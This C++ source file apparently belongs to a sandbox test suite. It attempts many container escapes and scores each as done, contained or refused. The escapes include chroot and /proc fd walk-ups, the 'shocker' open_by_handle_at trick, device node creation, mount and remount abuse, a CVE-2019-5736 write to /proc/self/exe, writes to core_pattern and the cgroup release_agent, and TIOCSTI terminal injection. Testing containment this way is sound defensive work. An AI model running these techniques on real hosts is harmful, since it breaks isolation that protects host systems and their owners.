// Ways to the host's files: descriptors, magic links, mounts, devices, the root directory.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <fstream>
#include <sstream>

#include "tests/attacks/attack.h"

namespace attacks {

std::string read_file(const std::string& path) {
  std::ifstream file(path);
  std::ostringstream text;
  text << file.rdbuf();
  return text.str();
}

Result use_root(const Host& host, const std::string& directory) {
  if (read_file(directory + host.secret_file).find(host.secret) != std::string::npos) {
    return done("read " + directory + host.secret_file);
  }
  // Its directory is the host's: one of this name in the container is none of its business.
  const int marker = open((directory + host.marker).c_str(), O_WRONLY | O_CREAT, 0644);
  if (marker >= 0) return done("made " + directory + host.marker);
  return contained("nothing of the host's below " + directory);
}

namespace {

Result open_descriptors(const Host&) {
  for (int descriptor = 3; descriptor < 4096; ++descriptor) {
    if (fcntl(descriptor, F_GETFD) >= 0) return done("descriptor " + std::to_string(descriptor) + " is open");
  }
  return contained("none above 2");
}

// Up from a descriptor that is a directory, and from what /proc/PID/fd has.
Result descriptors_of_processes(const Host& host) {
  for (const char* process : {"self", "1"}) {
    const std::string directory = std::string("/proc/") + process + "/fd";
    DIR* entries = opendir(directory.c_str());
    if (entries == nullptr) continue;
    while (const dirent* entry = readdir(entries)) {
      if (entry->d_name[0] == '.') continue;
      std::string up = directory + "/" + entry->d_name;
      for (int depth = 0; depth < 16; ++depth) {
        up += "/..";
        const Result result = use_root(host, up);
        if (result.kind == Result::Kind::kDone) return result;
      }
    }
    closedir(entries);
  }
  return contained("no descriptor leads to the host");
}

Result working_directory(const Host& host) {
  std::string up = ".";
  for (int depth = 0; depth < 16; ++depth) {
    up += "/..";
    const Result result = use_root(host, up);
    if (result.kind == Result::Kind::kDone) return result;
  }
  return contained("up from the working directory is the container's root");
}

Result links_of_processes(const Host& host) {
  for (const char* link :
       {"/proc/1/root", "/proc/1/cwd", "/proc/self/root", "/proc/self/cwd", "/proc/thread-self/root"}) {
    const Result result = use_root(host, link);
    if (result.kind == Result::Kind::kDone) return result;
  }
  for (const int process : host.processes) {
    const Result result = use_root(host, "/proc/" + std::to_string(process) + "/root");
    if (result.kind == Result::Kind::kDone) return result;
  }
  return contained("all lead to the container's root");
}

// The classic one: a root directory below the working directory does not stop "..".
Result walk_up_from_chroot(const Host& host) {
  mkdir("/tmp", 0777);
  mkdir("/tmp/deeper", 0777);
  const int outside = open("/", O_RDONLY | O_DIRECTORY);
  if (chroot("/tmp/deeper") != 0) return refused();
  if (fchdir(outside) != 0) return refused();
  for (int depth = 0; depth < 64; ++depth) {
    if (chdir("..") != 0) return refused();
  }
  if (chroot(".") != 0) return refused();
  return use_root(host, "");
}

Result pivot_root_up(const Host& host) {
  if (syscall(SYS_pivot_root, ".", ".") != 0) return refused();
  return use_root(host, "/..");
}

// "shocker": the handle of a file system's root is inode 2 on ext4, 128 on XFS, 256 on btrfs.
Result open_by_handle(const Host& host) {
  struct {
    unsigned size = 8;
    int type = 1;
    unsigned bytes[2];
  } handle;
  for (const char* start : {"/", "/etc/hosts", "/dev/shm", "/proc/self/fd/1", "/proc/self/exe"}) {
    const int mount_descriptor = open(start, O_RDONLY);
    if (mount_descriptor < 0) continue;
    for (const unsigned inode : {2u, 128u, 256u}) {
      handle.bytes[0] = inode;
      handle.bytes[1] = 0;
      const long root = syscall(SYS_open_by_handle_at, mount_descriptor, &handle, O_RDONLY);
      if (root < 0) continue;
      const Result result = use_root(host, "/proc/self/fd/" + std::to_string(root));
      if (result.kind == Result::Kind::kDone) return result;
    }
  }
  return refused();
}

// Makes nodes of the block devices that a host may have, and opens them.
Result make_block_devices(const Host&) {
  mkdir("/tmp", 0777);
  int made = 0;
  for (const unsigned major_number : {3u, 7u, 8u, 9u, 22u, 65u, 202u, 251u, 252u, 253u, 254u, 259u}) {
    for (unsigned minor_number = 0; minor_number < 4; ++minor_number) {
      for (const char* directory : {"/tmp", "/dev", "/dev/shm", "/"}) {
        const std::string path = std::string(directory) + "/block";
        unlink(path.c_str());
        if (mknod(path.c_str(), S_IFBLK | 0600, makedev(major_number, minor_number)) != 0) continue;
        ++made;
        if (open(path.c_str(), O_RDONLY | O_NONBLOCK) >= 0) {
          return done("opened block device " + std::to_string(major_number) + ":" + std::to_string(minor_number));
        }
      }
    }
  }
  return made > 0 ? contained("made nodes, which cannot be opened") : refused();
}

Result make_character_devices(const Host&) {
  mkdir("/tmp", 0777);
  struct Device {
    const char* name;
    unsigned major, minor;
  };
  int made = 0;
  for (const Device& device : {Device{"mem", 1, 1}, Device{"port", 1, 4}, Device{"kmsg", 1, 11}, Device{"rtc", 10, 135},
                               Device{"kvm", 10, 232}, Device{"fuse", 10, 229}, Device{"loop-control", 10, 237},
                               Device{"tty1", 4, 1}, Device{"mapper", 10, 236}, Device{"vhost-vsock", 10, 241}}) {
    for (const char* directory : {"/tmp", "/dev", "/dev/shm", "/"}) {
      const std::string path = std::string(directory) + "/character";
      unlink(path.c_str());
      if (mknod(path.c_str(), S_IFCHR | 0600, makedev(device.major, device.minor)) != 0) continue;
      ++made;
      if (open(path.c_str(), O_RDONLY | O_NONBLOCK) >= 0) return done(std::string("opened ") + device.name);
    }
  }
  return made > 0 ? contained("made nodes, which cannot be opened") : refused();
}

// Devices of the host that are there already.
Result open_devices(const Host&) {
  for (const char* path : {"/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/sda",
                           "/dev/vda", "/dev/nvme0n1", "/dev/loop0", "/dev/loop-control", "/dev/mapper/control"}) {
    if (open(path, O_RDONLY | O_NONBLOCK) >= 0) return done(std::string("opened ") + path);
  }
  return refused();
}

Result mount_file_systems(const Host& host) {
  mkdir("/tmp", 0777);
  for (const char* type : {"tmpfs", "proc", "sysfs", "cgroup", "cgroup2", "devtmpfs", "debugfs", "securityfs", "bpf"}) {
    if (mount("none", "/tmp", type, 0, nullptr) == 0) return done(std::string("mounted a ") + type);
  }
  if (mount("/", "/tmp", nullptr, MS_BIND | MS_REC, nullptr) == 0) return use_root(host, "/tmp");
  return refused();
}

Result make_writable_again(const Host&) {
  for (const char* path : {"/proc/sys", "/proc/bus", "/sys", "/proc/irq"}) {
    if (mount(nullptr, path, nullptr, MS_REMOUNT | MS_BIND, nullptr) == 0)
      return done(std::string("remounted ") + path);
    if (umount2(path, MNT_DETACH) == 0) return done(std::string("unmounted what protects ") + path);
  }
  return refused();
}

Result uncover_masked(const Host&) {
  for (const char* path : {"/proc/keys", "/proc/timer_list", "/proc/kcore", "/sys/firmware", "/proc/acpi"}) {
    if (umount2(path, MNT_DETACH) == 0) return done(std::string("unmounted the mask of ") + path);
  }
  return refused();
}

Result mount_with_the_new_calls(const Host&) {
  if (syscall(SYS_fsopen, "tmpfs", 0) >= 0) return done("fsopen");
  if (syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */) >= 0) return done("open_tree");
  if (syscall(SYS_fspick, AT_FDCWD, "/proc/sys", 0) >= 0) return done("fspick");
  const struct {
    unsigned long set = 0, clear = 1 /* MOUNT_ATTR_RDONLY */, propagation = 0, user_namespace = 0;
  } attributes;
  if (syscall(SYS_mount_setattr, AT_FDCWD, "/proc/sys", 0, &attributes, sizeof attributes) == 0)
    return done("mount_setattr");
  return refused();
}

// CVE-2019-5736: the file of the program that runs, and of process 1. Its own file is a payload's to change, so what
// this did is seen on the host.
Result overwrite_programs(const Host&) {
  for (const char* path : {"/proc/1/exe", "/proc/self/exe"}) {
    const int program = open(path, O_PATH);
    if (program < 0) continue;
    const std::string again = "/proc/self/fd/" + std::to_string(program);
    const int writable = open(again.c_str(), O_WRONLY | O_APPEND);
    if (writable >= 0 && write(writable, "#", 1) == 1) return contained(std::string("wrote to ") + path);
  }
  return refused();
}

Result write_to_sysctls(const Host& host) {
  for (const char* path : {"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug",
                           "/proc/sys/fs/binfmt_misc/register", "/proc/sys/vm/panic_on_oom", "/proc/sysrq-trigger",
                           "/proc/irq/default_smp_affinity", "/sys/kernel/uevent_helper", "/sys/power/state",
                           "/sys/kernel/mm/transparent_hugepage/enabled"}) {
    const int file = open(path, O_WRONLY);
    if (file < 0) continue;
    const std::string line = std::string(path).ends_with("sysrq-trigger") ? "h" : "|" + host.marker;
    if (write(file, line.data(), line.size()) > 0) return done(std::string("wrote to ") + path);
  }
  return refused();
}

// CVE-2022-0492: the agent of a version 1 hierarchy is started by the kernel, as root of the host.
Result cgroup_release_agent(const Host& host) {
  for (const char* directory :
       {"/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/rdma", "/sys/fs/cgroup/misc"}) {
    const int agent = open((std::string(directory) + "/release_agent").c_str(), O_WRONLY);
    if (agent >= 0 && write(agent, host.marker.data(), host.marker.size()) > 0) return done(directory);
  }
  mkdir("/tmp", 0777);
  if (mount("none", "/tmp", "cgroup", 0, "rdma") == 0) return done("mounted a version 1 hierarchy");
  return refused();
}

Result read_kernel_memory(const Host&) {
  for (const char* path : {"/proc/kcore", "/proc/kmsg", "/sys/kernel/debug", "/sys/firmware/acpi/tables/DSDT"}) {
    char byte;
    const int file = open(path, O_RDONLY | O_NONBLOCK);
    if (file >= 0 && read(file, &byte, 1) == 1) return done(std::string("read ") + path);
  }
  return refused();
}

// The caller's shell reads what is typed into its terminal.
Result type_into_terminal(const Host&) {
  constexpr unsigned long kTiocLinux = 0x541c;
  int terminals = 0;
  for (const char* path : {"/dev/stdin", "/dev/stdout", "/dev/tty", "/dev/console"}) {
    const int terminal = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
    if (terminal < 0 || isatty(terminal) == 0) continue;
    ++terminals;
    char letter = 'x', paste = 3;
    if (ioctl(terminal, 0x5412 /* TIOCSTI */, &letter) == 0) return done(std::string("typed into ") + path);
    if (ioctl(terminal, kTiocLinux, &paste) == 0) return done(std::string("pasted into ") + path);
  }
  return terminals > 0 ? refused() : contained("no terminal");
}

}  // namespace

std::vector<Attack> attacks_on_files() {
  return {{"open-descriptors", open_descriptors},
          {"descriptors-of-processes", descriptors_of_processes},
          {"working-directory", working_directory},
          {"links-of-processes", links_of_processes},
          {"chroot-walk-up", walk_up_from_chroot},
          {"pivot-root", pivot_root_up},
          {"open-by-handle", open_by_handle},
          {"block-devices", make_block_devices},
          {"character-devices", make_character_devices},
          {"devices-in-dev", open_devices},
          {"mount", mount_file_systems},
          {"remount", make_writable_again},
          {"umount-masks", uncover_masked},
          {"new-mount-calls", mount_with_the_new_calls},
          {"proc-self-exe", overwrite_programs},
          {"sysctls", write_to_sysctls},
          {"release-agent", cgroup_release_agent},
          {"kernel-memory", read_kernel_memory},
          {"terminal", type_into_terminal}};
}

}  // namespace attacks
